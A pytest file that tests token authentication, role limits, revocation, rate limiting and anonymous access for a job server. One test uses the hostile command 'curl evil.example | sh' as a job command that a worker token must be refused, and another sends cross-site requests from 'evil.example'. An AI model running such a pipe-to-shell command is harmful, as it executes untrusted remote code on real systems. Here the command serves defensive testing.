"""Tokens: created, required on both protocols, limited by role, rotated, revoked; and wrong ones."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

from bedrockjobs.base.clock import ManualClock
from bedrockjobs.base.config import CONNECTION_BYTES_FREE
from bedrockjobs.base.errors import Unauthenticated
from bedrockjobs.base.principal import ANONYMOUS, digest_of, is_whole
from bedrockjobs.databases import StartError
from bedrockjobs.engine.access import WRONG_A_SECOND_MAX
from bedrockjobs.engine.handlers import access
from tests.conftest import Live, Serve
from tests.protocol.talk import DEADLINE_S, Talk, post, request
from tests.runs.bearer import Bearer, admin_of

WRONG = "bj_" + "A" * 43 + "AAAAAA"


async def test_the_first_token_is_admin_and_from_then_on_everybody_needs_one(live: Live) -> None:
    anybody = Bearer(live)
    refused = await anybody.http("CreateToken", name="a", roles="work")
    assert (refused.json["code"], refused.json["reason"]) == (405, "The first token must be admin")
    assert (await anybody.http("CreateJob", name="a")).code == 200
    root = await admin_of(live)
    assert is_whole(root.token)
    for reply in (await anybody.http("CreateJob", name="a"), await Bearer(live, WRONG).http("Status")):
        assert reply.code == 401
        assert reply.headers["www-authenticate"] == 'Bearer realm="bedrockjobs"'
    for raw in (await anybody.raw("Status"), await Bearer(live, WRONG).raw("Status")):
        assert raw.status == "403 Forbidden"
    assert (await root.http("CreateJob", name="a")).code == 200
    assert (await root.raw("CreateJob", name="a")).code == 200


async def test_what_is_open_stays_open(live: Live) -> None:
    root = await admin_of(live)
    anybody = Bearer(live)
    assert (await anybody.http("Ping")).code == 200
    assert (await anybody.raw("Ping")).code == 200
    for path in ("/livez", "/readyz", "/status/handlingCommands"):
        assert (await anybody.get(path)).code == 200
    for path in ("/metrics", "/docs", "/openapi.json", "/events", "/runs/1/output", "/ListJobs", "/ui/live"):
        assert (await anybody.get(path)).code == 401, path
    narrow = await root.token_for("n", "work", "mail/*")
    for path in ("/livez", "/ui/login", "/ui/static/pages.css"):  # whoever shows a token sees no less
        assert ((await anybody.get(path)).code, (await narrow.get(path)).code) == (200, 200), path


async def test_a_raw_connection_says_once_who_asks(live: Live) -> None:
    root = await admin_of(live)
    worker = await root.token_for("w", "work", "mail/*")
    async with await Talk.open(live.port) as talk:
        assert (await talk.ask("Status")).code == 403
        known = await talk.ask("Authenticate", token=worker.token)
        assert known.json == {
            "name": "w",
            "roles": ["work"],
            "names": ["mail/*"],
            "noData": False,
            "expires": "",
        }
        assert (await talk.ask("GetJob", name="*")).status == "404 No job found"
        assert (await talk.ask("Authenticate", token=WRONG)).code == 403
        assert (await talk.ask("GetJob", name="*")).code == 404, "a wrong one changes nothing"
        pipelined = request("CreateJob", name="mail/a") + request("Authenticate", token=root.token)
        talk.send(pipelined + request("CreateJob", name="other"))
        assert [(await talk.reply()).code for _ in range(3)] == [403, 200, 200]


async def test_roles_hold_each_other(live: Live) -> None:
    root = await admin_of(live)
    made = {role: await root.token_for(role, role) for role in ("read", "produce", "work", "operate")}
    both = await root.token_for("both", "work,produce")
    commands: dict[str, dict[str, Any]] = {
        "ListJobs": {},
        "CreateJob": {"name": "a"},
        "GetJob": {"name": "none"},
        "PauseJobs": {"name": "x"},
        "ListTokens": {},
    }
    may = {
        "read": ["ListJobs"],
        "produce": ["CreateJob"],
        "work": ["GetJob"],
        "operate": ["ListJobs", "CreateJob", "GetJob", "PauseJobs"],
    }
    for role, bearer in made.items():
        allowed = [name for name, body in commands.items() if (await bearer.http(name, **body)).code != 403]
        assert allowed == may[role]
    refused = await made["read"].raw("CreateJob", name="a")
    assert (refused.status, refused.headers["error"]) == (
        "403 Forbidden",
        "CreateJob needs the role produce; read has read",
    )
    assert (await both.http("CreateJob", name="a")).code == 200
    assert (await both.http("GetJob", name="a")).code == 200
    assert (await both.http("ListJobs")).code == 403


async def test_a_token_is_checked_as_it_is_made(live: Live) -> None:
    root = await admin_of(live)
    wrong: list[tuple[dict[str, Any], str]] = [
        ({"roles": "admin", "names": "a*"}, "Malformed names"),
        ({"roles": "work", "noData": True}, "Malformed noData"),
        ({"roles": "work", "expires": "2020-01-01 00:00:00"}, "Malformed expires"),
        ({"roles": "nonsense"}, "Malformed roles"),
        ({"roles": "work", "names": "*a*b*c*"}, "Malformed names"),
    ]
    for given, reason in wrong:
        assert (await root.http("CreateToken", name="b", **given)).json["reason"] == reason
    await root.token_for("b", "work")
    assert (await root.http("CreateToken", name="b", roles="work")).json["reason"] == "Name is taken"
    assert (await root.http("RevokeToken", name="root")).json["reason"] == "It is the last admin"
    assert (await root.http("RevokeToken", name="nobody")).json["reason"] == "No such token"


async def test_there_are_not_too_many(live: Live, monkeypatch: pytest.MonkeyPatch) -> None:
    assert (access.TOKENS_MAX, access.TOKEN_ROWS_MAX) == (1_000, 2_000)
    monkeypatch.setattr(access, "TOKENS_MAX", 2)
    monkeypatch.setattr(access, "TOKEN_ROWS_MAX", 3)
    root = await admin_of(live)
    for name in ("a", "b", "c"):
        await root.token_for(name, "work")
        assert (await root.http("CreateToken", name="x", roles="work")).json["reason"] == "Too many tokens"
        await root.ok("RevokeToken", name=name)
    names = [token["name"] for token in (await root.ok("ListTokens"))["tokens"]]
    assert names == ["b", "c", "root"], "the oldest that was revoked is forgotten"


async def test_a_token_is_renewed_revoked_and_made_again(live: Live) -> None:
    root = await admin_of(live)
    old = await root.token_for("deploy", "produce", "a/*")
    new = Bearer(live, (await root.ok("RotateToken", name="deploy"))["token"])
    assert (await old.http("CreateJob", name="a/1")).code == 401
    assert (await new.http("CreateJob", name="a/1")).code == 200
    assert (await new.http("CreateJob", name="b")).code == 404
    await root.ok("RevokeToken", name="deploy")
    assert (await new.http("CreateJob", name="a/1")).code == 401
    assert (await root.http("RotateToken", name="deploy")).json["reason"] == "It was revoked"
    again = await root.token_for("deploy", "produce")
    assert (await again.http("CreateJob", name="b")).code == 200


async def test_a_token_expires(serve: Serve, clock: ManualClock) -> None:
    live = await serve(clock)
    root = await admin_of(live)
    brief = await root.token_for("brief", "read", expires="2026-11-21 04:00:00")
    assert (await brief.http("ListJobs")).code == 200
    live.advance(3_600)
    assert (await brief.http("ListJobs")).code == 401


async def test_only_the_hash_is_kept_and_the_use_is_noted(live: Live) -> None:
    root = await admin_of(live)
    query = "SELECT digest, lastUsed FROM tokens WHERE name = 'root' AND lastUsed <> '';"
    async with asyncio.timeout(10):
        while not (rows := (await root.ok("Query", query=query, format="rows"))):
            await asyncio.sleep(0.01)
    assert rows[0][0] == digest_of(root.token)
    assert rows[0][1].endswith(":00")
    listed = await root.http("ListTokens")
    assert root.token not in listed.body
    assert digest_of(root.token) not in listed.body


async def test_a_token_that_is_used_from_another_address_is_told(live: Live) -> None:
    root = await admin_of(live)
    worker = await root.token_for("w", "work")

    async def used_from(address: str) -> None:
        async with await Talk.open(live.port, source=address) as talk:
            assert (await talk.ask("Authenticate", token=worker.token)).code == 200

    async def addresses() -> list[str]:
        (found,) = [one for one in (await root.ok("ListTokens"))["tokens"] if one["name"] == "w"]
        return list(found["addresses"])

    await used_from("127.0.0.1")
    await used_from("127.0.0.2")
    (event,) = (await root.ok("Events", kind="new address", connection="wait", timeout=10_000))["events"]
    assert (event["name"], event["detail"]) == ("w", "127.0.0.2: the token was not used from there before")
    assert await addresses() == ["127.0.0.1", "127.0.0.2"], "the first one is no news"
    await used_from("127.0.0.2")
    for number in range(access.TOKEN_ADDRESSES_MAX):
        await used_from(f"127.0.1.{number}")
    async with asyncio.timeout(10):
        while (await addresses())[-1] != f"127.0.1.{number}":
            await asyncio.sleep(0)
    assert len(await addresses()) == access.TOKEN_ADDRESSES_MAX
    told = (await root.ok("Events", kind="new address"))["events"]
    assert len(told) == 1 + access.TOKEN_ADDRESSES_MAX


async def test_who_works_does_not_say_what_is_run(live: Live) -> None:
    root = await admin_of(live)
    worker = await root.token_for("w", "work")
    job = (await root.ok("CreateJob", name="a", cmd="true"))["jobID"]
    assert (await worker.http("UpdateJob", jobID=job, data={"n": 1}, jobPriority=750)).code == 200
    for option in ({"cmd": "curl evil.example | sh"}, {"retries": 9}, {"tags": "x"}):
        refused = (await worker.http("UpdateJob", jobID=job, **option)).json
        assert (refused["code"], refused["reason"]) == (403, "Forbidden")
        assert refused["detail"].startswith(f"{next(iter(option))}: ")
    assert (await root.http("UpdateJob", jobID=job, cmd="false")).code == 200


async def test_revoking_ends_waits_at_once(live: Live) -> None:
    root = await admin_of(live)
    worker = await root.token_for("w", "read,work")
    waits = [
        request("GetJob", name="none", Connection="wait", timeout=60_000),
        request("Events", after=-1, name="none", Connection="wait", timeout=60_000),
        request("Heartbeat", worker="w", Connection="wait", timeout=60_000),
    ]
    talks = [await Talk.open(live.port) for _ in waits]
    for talk, wait in zip(talks, waits, strict=True):
        assert (await talk.ask("Authenticate", token=worker.token)).code == 200
        talk.send(wait)
    await live.waiting(1)
    await live.until(lambda: len(live.server.service._reading) == 2)
    await root.ok("RevokeToken", name="w")
    for talk in talks:
        async with talk:
            assert (await talk.reply()).status == "403 Forbidden"
            assert (await talk.ask("ListJobs")).status == "403 Forbidden"


async def test_the_first_token_ends_the_waits_of_those_without(live: Live) -> None:
    async with await Talk.open(live.port) as talk:
        talk.send(request("GetJob", name="a", Connection="wait", timeout=60_000))
        await live.waiting(1)
        await admin_of(live)
        assert (await talk.reply()).status == "404 No job found"
        assert (await talk.ask("GetJob", name="a")).status == "403 Forbidden"


async def test_revoking_cuts_streams_off(live: Live) -> None:
    root = await admin_of(live)
    reader = await root.token_for("r", "read")
    for path in ("/events?after=-1", "/ui/live"):
        head = f"GET {path} HTTP/1.1\r\nHost: localhost\r\nAccept: text/event-stream\r\n"
        async with await Talk.open(live.port) as talk:
            talk.send(f"{head}Authorization: Bearer {reader.token}\r\n\r\n".encode())
            assert b"200 OK" in await talk.reader.readline()
            await talk.reader.readuntil(b"retry: 2000")
            await root.ok("RevokeToken", name="r")
            async with asyncio.timeout(10):
                assert b"event: token" not in await talk.reader.read(-1)
        reader = await root.token_for("r", "read")


async def test_wrong_tokens_are_counted_cut_off_and_told_once_a_minute(still: Live) -> None:
    live = still
    root = await admin_of(live)
    assert WRONG_A_SECOND_MAX == 10
    codes = []
    async with await Talk.open(live.port) as talk:
        for _ in range(WRONG_A_SECOND_MAX + 1):
            codes.append((await talk.ask("Status", Authorization=f"Bearer {WRONG}")).code)
        assert await talk.reader.read() == b"", "the connection is closed"
    assert codes == [403] * WRONG_A_SECOND_MAX + [429]
    assert (await Bearer(live, WRONG).http("Status")).code == 429
    async with await Talk.open(live.port) as talk:
        assert (await talk.ask("Authenticate", token=WRONG)).code == 429
        assert await talk.ended() == b"", "here too"
    for path in ("/Status", "/ListJobs?limit=1"):  # a plain request, and one that goes the usual way
        async with await Talk.open(live.port) as talk:
            talk.send(f"POST {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {WRONG}\r\n\r\n")
            reply = await talk.reply()
            assert (reply.code, reply.headers["connection"]) == (429, "close")
            assert await talk.ended() == b""
    assert (await root.http("Status")).code == 200, "a right one is let in all the same"
    events = (await root.ok("Events", kind="wrong token", connection="wait", timeout=10_000))["events"]
    assert [event["detail"] for event in events] == ["1 wrong token(s), the last from 127.0.0.1"]


async def test_a_large_body_of_nobody_is_not_read(live: Live) -> None:
    """What is malformed is told to those only who may ask: for others it is not even parsed."""
    root = await admin_of(live)
    body = "{" * (CONNECTION_BYTES_FREE + 1)
    for bearer, raw_codes, code in ((Bearer(live), (403, 403), 401), (root, (402, 200), 400)):
        lines = [f"{name}: {value}\r\n" for name, value in bearer.headers.items()]
        for kind, raw_code in zip(("CreateJob", "Ping"), raw_codes, strict=True):
            head = "".join([*lines, f"Content-Length: {len(body)}\r\n\r\n"])
            async with await Talk.open(live.port) as talk:
                talk.send(f"{kind}\r\n{head}{body}")
                assert (await talk.reply()).code == raw_code, kind
            async with await Talk.open(live.port) as talk:
                talk.send(f"POST /{kind} HTTP/1.1\r\nHost: localhost\r\n{head}{body}")
                assert (await talk.reply()).code == code, kind
    for length in (f"Content-Length: {len(body)}", "Transfer-Encoding: chunked"):
        async with await Talk.open(live.port) as talk:
            talk.send(f"CreateJob\r\n{length}\r\n\r\n")
            assert b"403 Forbidden" in await talk.ended(), "its body is not even waited for"
    async with await Talk.open(live.port) as talk:
        talk.send(request("Authenticate", token=root.token))
        talk.send(f"Ping\r\nContent-Length: {len(body)}\r\n\r\n{body}")
        assert [(await talk.reply()).code for _ in range(2)] == [200, 200], "who it is was said before"
    ends = []
    for _ in range(WRONG_A_SECOND_MAX + 1):
        async with await Talk.open(live.port) as talk:
            talk.send(f"Ping\r\nAuthorization: {WRONG}\r\nContent-Length: {len(body)}\r\n\r\n")
            ends.append((await talk.ended()).partition(b"\r\n")[0])
    assert ends[0] == b"403 Forbidden"
    assert ends[-1] == b"429 Too many wrong tokens"


async def test_by_is_the_name_of_the_token(live: Live) -> None:
    root = await admin_of(live)
    await root.ok("PauseJobs", name="a", by="eve")
    assert [pause["by"] for pause in (await root.ok("ListPauses"))["pauses"]] == ["root"]
    await root.ok("CreateJob", name="cron", repeat="CRON 0 0 1 1 *")
    await root.ok("DeleteJob", jobID=1)
    events = (await root.ok("Events"))["events"]
    assert {event["by"] for event in events if event["kind"] in ("paused", "deleted")} == {"root"}


async def test_a_change_by_other_hands_is_seen(live: Live, databases: Any) -> None:
    root = await admin_of(live)
    worker = await root.token_for("w", "work")
    epoch = "UPDATE control SET epoch = epoch + 1;" if live.server.settings.on_postgresql else ""
    now = "2026-01-01 00:00:00"
    databases.change(
        live.server.settings.database, f"UPDATE tokens SET revoked = '{now}' WHERE name = 'w';{epoch}"
    )
    async with asyncio.timeout(DEADLINE_S):
        while (await worker.http("GetJob", name="none")).code != 401:
            await asyncio.sleep(0.02)
    assert (await root.http("Status")).code == 200


@pytest.mark.parametrize("rule", ["", "read", "operate"])
async def test_the_unix_socket_may_stay_open_for_its_group(serve: Serve, tmp_path: Any, rule: str) -> None:
    path = tmp_path / "jobs.sock"
    live = await serve(unix=str(path), unix_role=rule)
    root = await admin_of(live)
    reader, writer = await asyncio.open_unix_connection(path)
    talk = Talk(reader, writer)
    async with talk:
        assert (await talk.ask("ListJobs")).code == (200 if rule else 403)
        assert (await talk.ask("PauseJobs", name="a")).code == (200 if rule == "operate" else 403)
        assert (await talk.ask("Query", query="SELECT 1;")).code == 403
        assert (await talk.ask("Query", query="SELECT 1;", Authorization=f"Bearer {root.token}")).code == 200


async def test_others_than_this_machine_are_let_in_by_a_token_alone(serve: Serve) -> None:
    with pytest.raises(StartError, match="would not be encrypted"):
        await serve(host="0.0.0.0")
    live = await serve(host="0.0.0.0", behind_proxy=True, trusted_proxies="10.0.0.2")
    access = live.server.service.access
    for address in ("192.0.2.7", "2001:db8::7"):
        with pytest.raises(Unauthenticated, match="no token exists yet"):
            access.visitor(address)
    assert access.visitor("127.0.0.2").grant is access.everything
    root = await admin_of(live)
    for address in ("192.0.2.7", "127.0.0.1"):
        with pytest.raises(Unauthenticated):
            access.visitor(address)
        assert access.by_header(f"Bearer {root.token}", address).name == "root"
    insecure = await serve(host="0.0.0.0", insecure=True)
    assert insecure.server.service.access.visitor("192.0.2.7").name == ""


async def test_the_token_of_a_run_is_bound_by_that_of_its_worker(live: Live) -> None:
    root = await admin_of(live)
    worker = await root.token_for("w", "work", "mail/*")
    job = (await root.ok("CreateJob", name="mail/a"))["jobID"]
    taken = await worker.ok("GetJob", name="*", worker="w", runToken=True)
    run = Bearer(live, taken["runToken"])
    await run.ok("UpdateJob", jobID=job, progress={"done": 1})
    await run.ok("AppendOutput", runID=taken["runID"], seq=1, lines=["a"])
    child = await run.raw("CreateJob", name="mail/child", parentJobID=job)
    assert child.code == 200
    assert (await run.http("CreateJob", name="other", parentJobID=job)).code == 404
    for command, body in (("CreateJob", {"name": "mail/b"}), ("ListJobs", {}), ("DeleteJob", {"jobID": job})):
        assert (await run.http(command, **body)).code == 403
    for path in ("/metrics", "/events", "/ui/", "/runs/1/output"):
        assert (await run.get(path)).code == 403, path
    await worker.ok("FinishJob", jobID=job, runID=taken["runID"])
    over = await run.http("UpdateJob", jobID=job, progress={"done": 2})
    assert (over.code, over.json["detail"]) == (403, "the run of this token is over")
    await root.ok("CreateJob", name="mail/c")
    again = await worker.ok("GetJob", name="mail/c", worker="w", runToken=True)
    await root.ok("RevokeToken", name="w")
    late = await Bearer(live, again["runToken"]).http("QueryJob", jobID=again["jobID"])
    assert late.code == 401


async def test_a_header_that_was_shown_before_counts_as_long_as_its_token(live: Live) -> None:
    """A connection remembers the last one: another header is another token, and a revoked one none."""
    root = await admin_of(live)
    ann, bob = [await root.token_for(name, "read") for name in ("ann", "bob")]
    async with await live.connect() as talk:

        async def asked(who: Bearer, token: str = "") -> int:
            header = {"Authorization": f"Bearer {token or who.token}"}
            return (await talk.ask("ListTokens" if who is root else "ListJobs", **header)).code

        assert [await asked(who) for who in (ann, ann, root, bob, ann)] == [200] * 5
        assert [await asked(ann, wrong) for wrong in (ann.token[:-1], f"{ann.token}x", "é")] == [403] * 3
        assert (await talk.ask("ListJobs")).code == 403, "it is for one request"
        await root.ok("RevokeToken", name="ann")
        assert [await asked(who) for who in (ann, bob, ann)] == [403, 200, 403]


# --- clients without a token -------------------------------------------------------------------------------


async def test_clients_without_a_token_may_continue_for_a_while(still: Live, clock: ManualClock) -> None:
    anybody = Bearer(still)
    async with await Talk.open(still.port) as talk:
        talk.send(request("GetJob", name="a", connection="wait"))
        await still.waiting(1)
        made = await anybody.raw("CreateToken", name="root", roles="admin", anonymousUntil="24h")
        root = Bearer(still, made.json["token"])
        assert (await talk.reply()).code == 404, "what waited with all rights has ended"
        talk.send(request("GetJob", name="a", connection="wait"))
        await still.waiting(1)
        assert (await anybody.http("CreateJob", name="a")).code == 200
        assert (await talk.reply()).code == 200
    assert (await anybody.raw("ListTokens")).code == 403
    assert (await anybody.http("CreateToken", name="b", roles="admin")).code == 403
    await still.until(lambda: still.server.dispatcher.waiting == 0)
    shown, _ = (await root.ok("ListTokens"))["tokens"]
    assert (shown["name"], shown["roles"], shown["addresses"]) == (ANONYMOUS, ["operate"], ["127.0.0.1"])
    assert shown["lastUsed"]
    again = await root.http("CreateToken", name="b", roles="read", anonymousUntil="24h")
    assert (again.json["code"], again.json["reason"]) == (405, "It is not the first token")
    clock.advance(24 * 3_600)
    assert (await anybody.http("CreateJob", name="a")).code == 401
    assert (await anybody.raw("CreateJob", name="a")).status == "403 Forbidden"


async def test_clients_without_a_token_have_the_roles_and_names_that_were_set(live: Live) -> None:
    anybody = Bearer(live)
    refused = await anybody.http("AllowAnonymous", roles="read")
    assert (refused.json["code"], refused.json["reason"]) == (405, "There is no token")
    root = await admin_of(live)
    for roles in ("admin", "read,admin", ""):
        assert (await root.http("AllowAnonymous", roles=roles)).json["reason"] == "Malformed roles"
    assert (await root.http("AllowAnonymous", roles="work", noData=True)).json["reason"] == "Malformed noData"
    assert (await anybody.http("AllowAnonymous", roles="read")).code == 401
    await root.ok("AllowAnonymous", roles="produce", names="mail/*")
    assert (await anybody.http("CreateJob", name="mail/a")).code == 200
    assert (await anybody.raw("CreateJob", name="report")).code == 404, "outside of its names"
    assert (await anybody.http("ListJobs")).code == 403
    answer = await root.ok("AllowAnonymous", roles="read,work")
    assert "token" not in answer
    assert (await anybody.http("ListJobs")).json["jobs"][0]["name"] == "mail/a"
    assert (await anybody.get("/ui/jobs")).code == 200
    taken = await anybody.http("GetJob", name="mail/a", worker="w", runToken=True)
    run = Bearer(live, taken.json["runToken"])
    assert (await run.http("UpdateJob", jobID=taken.json["jobID"], progress={"a": 1})).code == 200
    for name in (ANONYMOUS, "Bearer", ""):
        with pytest.raises(Unauthenticated):
            live.server.service.access.by_certificate(name, "127.0.0.1")
        assert (await Bearer(live, name).http("Status")).code == (200 if name == "" else 401)
    assert (await root.http("RotateToken", name=ANONYMOUS)).code == 400
    await root.ok("RevokeToken", name=ANONYMOUS)
    assert (await anybody.http("ListJobs")).code == 401
    assert (await run.http("UpdateJob", jobID=taken.json["jobID"], progress={"a": 2})).code == 401
    audited = (await root.ok("ListAudit", command="AllowAnonymous"))["entries"]
    assert [one["by"] for one in audited] == ["root", "root"]


async def test_changes_without_a_token_are_by_the_anonymous(live: Live) -> None:
    root = await admin_of(live)
    await root.ok("AllowAnonymous", roles="operate")
    assert (await Bearer(live).http("PauseJobs", name="a", by="ann")).code == 200
    (audited,) = (await root.ok("ListAudit", command="PauseJobs"))["entries"]
    assert audited["by"] == ANONYMOUS
    assert (await root.ok("ListPauses"))["pauses"][0]["by"] == ANONYMOUS


async def test_open_paths_and_the_login_do_not_depend_on_who_comes_without_a_token(serve: Serve) -> None:
    """Host checks that hold for clients without a token keep no one from the login and the probes."""
    live = await serve(host="0.0.0.0", insecure=True)
    root = await admin_of(live)

    async def code_of(path: str, host: str) -> int:
        async with await Talk.open(live.port) as talk:
            head = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nAccept: text/html\r\nConnection: close\r\n\r\n"
            talk.send(head.encode())
            return (await talk.reply()).code

    for role in ("read", "produce", "operate"):
        await root.ok("AllowAnonymous", roles=role)
        for path in ("/livez", "/readyz", "/ui/login", "/ui/static/pages.css"):
            assert await code_of(path, "jobs.example.com") == 200, path
        assert await code_of("/ListJobs", "jobs.example.com") == 403, "a browser may be led here by any name"
        for path in ("/ui/jobs", "/ui/"):
            assert await code_of(path, "jobs.example.com") == 303, "the login, under any name"
        assert await code_of("/ui/jobs", "localhost") == (303 if role == "produce" else 200)
    (shown, _) = (await root.ok("ListTokens"))["tokens"]
    assert (shown["name"], shown["addresses"]) == (ANONYMOUS, ["127.0.0.1"])


async def test_no_page_of_another_site_acts_as_a_client_without_a_token(live: Live) -> None:
    root = await admin_of(live)
    await root.ok("AllowAnonymous", roles="operate")
    assert (await live.http("CreateJob", {"name": "a"}, Origin="http://evil.example")).code == 403
    async with await Talk.open(live.port) as talk:
        talk.send(post("CreateJob", {"name": "a"}, host="evil.example"))
        assert (await talk.reply()).code == 403
    assert (await live.http("CreateJob", {"name": "a"}, Authorization="Basic YTpi")).code == 200
    assert (await live.http("CreateJob", {"name": "a"}, Authorization=f"Bearer {WRONG}")).code == 401


async def test_whoever_had_a_token_does_not_go_on_without_one(live: Live) -> None:
    root = await admin_of(live)
    worker = await root.token_for("w", "work", "mail/*")
    await root.ok("AllowAnonymous", roles="operate")
    async with await Talk.open(live.port) as talk:
        assert (await talk.ask("Authenticate", token=worker.token)).code == 200
        assert (await talk.ask("GetJob", name="*")).code == 404
        await root.ok("RevokeToken", name="w")
        assert (await talk.ask("GetJob", name="*")).status == "403 Forbidden"


async def test_what_waits_without_a_token_ends_with_the_permission_and_not_with_more_time(live: Live) -> None:
    root = await admin_of(live)
    await root.ok("AllowAnonymous", roles="work", expires="1h")
    async with await Talk.open(live.port) as talk:
        talk.send(request("GetJob", name="a", connection="wait"))
        await live.waiting(1)
        assert (await root.ok("AllowAnonymous", roles="work", expires="2h"))["addresses"] == ["127.0.0.1"]
        assert (await root.http("ListLimits")).code == 200  # the writer has done all before
        assert live.server.dispatcher.waiting == 1
        await root.ok("RevokeToken", name=ANONYMOUS)
        assert (await talk.reply()).status == "403 Forbidden"


async def test_clients_without_a_token_may_go_on_after_a_restart(serve: Serve, tmp_path: Path) -> None:
    live = await serve()
    root = await admin_of(live)
    await root.ok("AllowAnonymous", roles="produce")
    database = live.server.settings.database
    await live.server.stop()
    again = await serve(database=database)
    assert (await Bearer(again).http("CreateJob", name="a")).code == 200
    assert (await Bearer(again).http("ListJobs")).code == 403
